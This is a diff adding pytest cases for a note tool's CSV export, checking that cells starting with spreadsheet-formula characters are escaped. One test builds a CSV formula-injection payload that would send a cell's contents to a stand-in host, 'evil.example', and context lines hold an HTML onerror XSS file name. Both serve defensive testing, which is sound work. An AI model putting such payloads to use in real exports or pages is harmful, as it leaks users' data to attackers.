@@ -11,6 +11,7 @@ The build and export halves of the first rule are in `test_hostile_build.py`.
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import subprocess
@@ -261,3 +262,28 @@ def test_a_touch_file_name_with_html_is_a_warning(make_vault):
     result = kith(root, "check")
     assert "meetings/x) <img src=x onerror=alert(1)> (.md: warning: file name" in result.output
     assert "cannot be part of a link" in result.output
+
+
+# Smaller --------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized(make_vault, start):
+    import csv
+    import io
+
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"x")'
+    root = make_vault({"people/ada.md": f"---\nname: Ada\ncompany: {json.dumps(formula)}\n"
+                                        f"tags: [{json.dumps(start + 'cmd')}]\n---\n"})
+    result = kith(root, "export", "csv")
+    assert result.exit_code == 0, result.output
+    (row,) = list(csv.DictReader(io.StringIO(result.output)))
+    assert row["company"] == "'" + formula
+    assert row["tags"] == "'" + start + "cmd"
+    assert row["name"] == "Ada"
+
+
+def test_csv_cells_starting_with_a_tab_or_cr_are_neutralized_too():
+    from kithbook.formats.csvexport import as_text_cell
+
+    assert as_text_cell("\t=1+1") == "'\t=1+1" and as_text_cell("\r=1") == "'\r=1"
+    assert as_text_cell("Ada") == "Ada" and as_text_cell("a=b") == "a=b"
